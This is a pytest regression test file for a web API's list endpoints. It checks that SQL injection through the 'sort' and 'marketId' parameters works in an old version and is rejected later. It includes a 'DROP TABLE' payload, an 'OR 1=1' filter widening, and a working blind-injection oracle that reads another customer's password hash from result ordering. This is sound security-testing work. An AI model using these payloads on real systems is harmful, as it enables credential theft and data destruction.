"""SQL that comes with a request."""

import pytest

since, before = pytest.mark.since, pytest.mark.before

NO_FIELDS = ["id; DROP TABLE markets", "no_such_column", "metadata", "id)"]
HEX = "0123456789abcdef"


def question(position, letter):
    """A `sort` that orders by id when a character of customer 1's password hash is below `letter`, else against it."""
    character = f"substr((SELECT password_hash FROM customers WHERE id = 1), {position}, 1)"
    return {"sort": f"CASE WHEN {character} < '{letter}' THEN id ELSE 0 - id END", "limit": 2}


@since(2)
def test_sort_answers_no_questions_about_other_tables(client):
    assert client.get("/markets", params=question(1, "8")).status_code == 422


@before("test_sort_answers_no_questions_about_other_tables")
def test_sort_reads_a_password_hash_of_somebody_else(client, staff):
    """A blind oracle: the list's order says yes or no, so four requests read one of the 16 hexadecimal digits."""
    read = ""
    for position in (1, 2, 3):
        low, high = 0, len(HEX)
        while high - low > 1:
            middle = (low + high) // 2
            first, second = (row["id"] for row in client.read("/markets", **question(position, HEX[middle]))["items"])
            low, high = (low, middle) if first < second else (middle, high)
        read += HEX[low]
    assert staff.read("/me")["passwordHash"].startswith(read), f"the oracle read {read!r}"


@since(2)
def test_a_filter_cannot_be_widened(client):
    assert client.get("/stalls", params={"marketId": "24 OR 1=1"}).status_code == 422


@before("test_a_filter_cannot_be_widened")
def test_a_filter_can_be_widened(client):
    assert client.get("/stalls", params={"marketId": "24 OR 1=1"}).json()["total"] == 200


@since(2)
def test_sort_is_never_sql(client):
    for sort in NO_FIELDS:
        for path in ("/markets", "/stalls", "/products", "/orders"):
            assert client.get(path, params={"sort": sort}).status_code == 422


@before("test_sort_is_never_sql")
def test_sort_reaches_the_database_and_its_complaint_reaches_the_client(client):
    for sort in NO_FIELDS:
        answer = client.get("/markets", params={"sort": sort})
        assert answer.is_200_with_success_false
        assert "SELECT" in answer.text, "the SQL stands in the answer"
